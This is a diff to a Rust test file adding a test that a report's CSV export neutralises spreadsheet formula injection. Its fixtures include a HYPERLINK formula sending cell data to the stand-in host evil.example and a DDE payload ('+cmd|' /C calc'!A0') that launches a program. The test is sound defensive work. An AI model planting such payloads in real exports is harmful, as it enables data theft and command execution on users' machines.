@@ -66,6 +66,47 @@ fn csv_is_rectangular_with_flat_columns() {
 }
 
 #[test]
+fn csv_escapes_formula_cells_and_keeps_negative_numbers() {
+    let info = report_common::info("run-hostile");
+    let mut samples = report_common::samples();
+    let link = r#"=HYPERLINK("http://evil.example/?q="&A1,"open")"#;
+    for s in &mut samples {
+        s.trace_id = link.to_string();
+    }
+    samples[0].scores.insert("delta".into(), -0.25);
+    samples[0]
+        .params
+        .insert("note".into(), serde_json::json!("@SUM(A1:A9)"));
+    samples[0].error = Some(ctxbench::record::UnitError {
+        kind: "bad_response".into(),
+        message: "+cmd|' /C calc'!A0".into(),
+    });
+    let model = ReportModel::build(&info, samples);
+    let text = csv::render(&info, &model);
+    let mut r = ::csv::Reader::from_reader(text.as_bytes());
+    let header = r.headers().unwrap().clone();
+    let idx = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let rows: Vec<_> = r.records().map(|r| r.unwrap()).collect();
+    assert!(!rows.is_empty());
+    for row in &rows {
+        assert_eq!(&row[idx("trace_id")], format!("'{link}"));
+        // No cell of any row starts a formula.
+        for cell in row.iter() {
+            let hostile = cell.starts_with(['=', '+', '@', '\t', '\r'])
+                || (cell.starts_with('-') && cell.parse::<f64>().is_err());
+            assert!(!hostile, "unescaped cell {cell:?}");
+        }
+    }
+    let first = rows
+        .iter()
+        .find(|r| !r[idx("scores.delta")].is_empty())
+        .expect("the row with a delta");
+    assert_eq!(&first[idx("scores.delta")], "-0.25", "numbers stay numbers");
+    assert_eq!(&first[idx("params.note")], "'@SUM(A1:A9)");
+    assert_eq!(&first[idx("error_message")], "'+cmd|' /C calc'!A0");
+}
+
+#[test]
 fn html_escapes_hostile_trace_text_and_has_no_script_or_external_reference() {
     let (info, model) = model();
     let page = html::render(&info, &model);
